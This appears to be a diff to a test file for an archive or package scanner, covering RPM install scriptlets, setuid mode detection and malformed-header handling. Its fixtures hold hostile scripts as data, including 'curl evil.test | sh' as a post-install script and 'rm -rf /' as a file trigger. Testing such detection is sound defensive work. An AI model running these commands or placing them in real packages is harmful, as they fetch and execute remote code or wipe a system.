@@ -45,7 +45,7 @@ describe('what is in an archive', () => {
         }),
       );
     const header = (entries: readonly (readonly [tag: number, text: string])[]): Buffer => {
-      const data = Buffer.from(entries.map(([, text]) => `${text}\0`).join(''));
+      const data = Buffer.from(entries.map(([, text]) => `${text}\0`).join(''), 'latin1');
       const index = Buffer.alloc(16 * entries.length);
       entries.forEach(([tag], i) => {
         const offset = entries.slice(0, i).reduce((sum, [, text]) => sum + text.length + 1, 0);
@@ -86,17 +86,19 @@ describe('what is in an archive', () => {
     test('programs that run without a script, scripts of rarer kinds and of another type', async () => {
       const bytes = rpm(files, [
         [1086, '/bin/sh\0-c\0curl evil.test | sh'],
-        [5066, 'rm -rf /'],
+        [5066, 'rm -rf /\0true'],
         [1085, '/bin/sh'],
         [1023, 'true'],
       ]);
-      bytes.writeUInt32BE(9, bytes.indexOf(Buffer.from([0, 0, 0x13, 0xca])) + 4);
+      const trigger = bytes.indexOf(Buffer.from([0, 0, 0x13, 0xca]));
+      bytes.writeUInt32BE(9, trigger + 4);
+      bytes.writeUInt32BE(2, trigger + 12);
       bytes.writeUInt32BE(3, bytes.indexOf(Buffer.from([0, 0, 0x04, 0x3e])) + 12);
       const { members } = await lookInside(fileOf('t.rpm', bytes));
       expect(members.slice(0, 3)).toMatchObject([
         { path: 'RPM/prein', text: 'true' },
         { path: 'RPM/postin', installs: true, text: '#!/bin/sh -c curl evil.test | sh\n' },
-        { path: 'RPM/filetrigger', installs: true, text: 'rm -rf /' },
+        { path: 'RPM/filetrigger', installs: true, text: 'rm -rf /\ntrue' },
       ]);
     });
 
@@ -111,6 +113,32 @@ describe('what is in an archive', () => {
       expect(await changed(4, 7)).toMatchObject({ why: 'unreadable' });
       expect(await changed(12, 0)).toMatchObject({ why: 'unreadable' });
       expect(await changed(12, 20_000)).toMatchObject({ why: 'too-much' });
+    });
+
+    test('the modes of its header count, which rpm installs by', async () => {
+      const withModes = (modes: string, [type = 3, count = 1]: readonly number[] = []): Buffer => {
+        const bytes = rpm(files, [
+          [1030, modes],
+          [1116, '\0\0\0\0'],
+          [1117, 'tool'],
+          [1118, '/usr/bin/'],
+        ]);
+        const set = (tag: number, at: number, value: number): unknown =>
+          bytes.writeUInt32BE(value, bytes.indexOf(Buffer.from([0, 0, tag >> 8, tag & 0xff, 0, 0, 0, 6])) + at);
+        for (const [tag, of] of [1030, 1116, 1117, 1118].map((each, i) => [each, [type, 4, 8, 8][i] ?? 0] as const)) {
+          if (tag === 1030) set(tag, 12, count);
+          set(tag, 4, of);
+        }
+        return bytes;
+      };
+      // 0o104755, as bytes of text
+      expect(await namesOf('t.rpm', withModes('\x89\xed'))).toEqual(['member-setuid']);
+      const stopped = async (bytes: Buffer) => (await lookInside(fileOf('t.rpm', bytes))).stopped;
+      expect(await stopped(withModes('\x21\xed'))).toMatchObject({ why: 'unreadable' });
+      expect(await stopped(withModes('\x81\xed', [4, 1]))).toMatchObject({ why: 'unreadable' });
+      expect(await stopped(withModes('\x81\xed', [3, 40_000]))).toMatchObject({ why: 'unreadable' });
+      expect(await stopped(withModes('\x81\xed', [3, 60_000]))).toMatchObject({ why: 'too-much' });
+      expect(await stopped(withModes('\x81\xed'))).toBeUndefined();
     });
 
     test('setuid, devices, and members that lead out', async () => {
